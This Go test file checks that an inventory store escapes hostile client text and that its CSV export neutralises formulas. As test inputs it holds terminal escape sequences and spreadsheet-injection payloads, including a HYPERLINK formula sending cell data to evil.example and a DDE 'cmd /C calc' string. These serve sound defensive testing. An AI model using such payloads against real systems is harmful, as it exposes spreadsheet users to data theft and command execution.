package inventory

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// hostile is what a stranger puts in every string it controls: ESC
// sequences (title, clear screen), the C1 CSI, a bidi override, a byte
// that is not UTF-8 and a newline.
const hostile = "\x1b]0;pwned\x07\x1b[2J\u009b2J\u202eevil\xff\nfake line"

// hostileStored is hostile as the store keeps it.
const hostileStored = `\x1b]0;pwned\x07\x1b[2J\u009b2J\u202eevil\xff\nfake line`

// rawControl reports whether s holds anything a terminal could act on.
func rawControl(s string) bool {
	return !utf8.ValidString(s) || strings.ContainsFunc(s, func(r rune) bool {
		return r < 0x20 || (r >= 0x7f && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200e || r == 0x200f || r == 0x061c
	})
}

// Every path that stores a client's text (stage-2 facts through Seen,
// BeginInstallSeen and Discover, the installer's failure message, the
// protocols' events) keeps it escaped and bounded.
func TestClientTextStoredClean(t *testing.T) {
	s := openTestStore(t)
	mustProfile(t, s, "edge")
	const a, b, d = "52:54:00:00:00:01", "52:54:00:00:00:02", "52:54:00:00:00:03"
	mustHost(t, s, Host{MAC: a, Profile: "edge", Serial: "S-A"})
	mustHost(t, s, Host{MAC: b, Profile: "edge"})
	f := Facts{UUID: hostile, Serial: hostile, Manufacturer: hostile, Product: hostile, BuildArch: hostile, Platform: hostile}
	want := Facts{UUID: hostileStored, Serial: hostileStored, Manufacturer: hostileStored, Product: hostileStored, BuildArch: hostileStored, Platform: hostileStored}

	if _, err := s.Seen(a, "10.0.0.1", f); err != nil {
		t.Fatal(err)
	}
	_, tok, err := s.BeginInstallSeen(b, "10.0.0.2", f)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Discover(d, "10.0.0.3", f, 0); err != nil {
		t.Fatal(err)
	}
	if _, _, err := s.Fail(tok, hostile); err != nil {
		t.Fatal(err)
	}
	if _, err := s.AddEvents([]HostEvent{{MAC: a, Kind: "tftp\x1b", Detail: hostile + " 0 bytes failed"}}); err != nil {
		t.Fatal(err)
	}
	for _, mac := range []string{a, b, d} {
		h, err := s.Host(mac)
		if err != nil {
			t.Fatal(err)
		}
		if h.Facts != want {
			t.Errorf("%s: facts stored as %+v, want each %q", mac, h.Facts, hostileStored)
		}
		if rawControl(h.LastArch) {
			t.Errorf("%s: lastArch %q", mac, h.LastArch)
		}
		for _, e := range mustEvents(t, s, mac) {
			if rawControl(e.Kind) || rawControl(e.Detail) {
				t.Errorf("%s: event %q %q holds a raw control", mac, e.Kind, e.Detail)
			}
		}
	}
	if h, _ := s.Host(b); h.FailedMsg != hostileStored {
		t.Errorf("failed message stored as %q, want %q", h.FailedMsg, hostileStored)
	}
	ev := mustEvents(t, s, a)
	if last := ev[len(ev)-1]; last.Kind != `tftp\x1b` || last.Detail != hostileStored+" 0 bytes failed" {
		t.Errorf("event stored as %q %q", last.Kind, last.Detail)
	}
	// One bound per event, escapes counted.
	if _, err := s.AddEvents([]HostEvent{{MAC: a, Kind: "tftp", Detail: strings.Repeat("\u009b", 10<<10)}}); err != nil {
		t.Fatal(err)
	}
	ev = mustEvents(t, s, a)
	if n := len(ev[len(ev)-1].Detail); n > MaxEventDetail || n < MaxEventDetail-6 {
		t.Errorf("a 20 KiB detail of C1 controls is stored as %d bytes, want at most %d", n, MaxEventDetail)
	}
}

// No cell of the export begins with a formula character: neither the
// manifest's (TestExportRoundTrip reads those back) nor what a machine
// reported (an SMBIOS serial, a failure message).
func TestExportNeutralisesFormulas(t *testing.T) {
	s := openTestStore(t)
	mustProfile(t, s, "edge")
	const a, b = "aa:bb:cc:00:00:01", "aa:bb:cc:00:00:02"
	mustHost(t, s, Host{MAC: a, Profile: "edge", Serial: "-7731-A"})
	h := Host{MAC: b, Profile: "edge", Serial: "'=quoted by its maker"}
	h.Site.Tags = map[string]string{"-rack": "@r1"}
	mustHost(t, s, h)
	if _, err := s.Seen(a, "10.0.0.1", Facts{Serial: `=HYPERLINK("http://evil.example/?d="&A1,"open")`}); err != nil {
		t.Fatal(err)
	}
	_, tok, err := s.BeginInstallSeen(b, "10.0.0.2", Facts{Serial: "+1+cmd|' /C calc'!A0"})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := s.Fail(tok, "@SUM(1)"); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteExportCSV(&buf, Report(mustHosts(t, s), nil, time.Now()), true); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	planted := 0
	for i, rec := range recs {
		for j, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %d column %s: cell %q begins with a formula character", i, recs[0][j], c)
			}
			if strings.HasPrefix(c, "'") {
				planted++
			}
		}
	}
	if planted != 6 {
		t.Errorf("%d cells behind a quote, want 6:\n%s", planted, buf.String())
	}
}
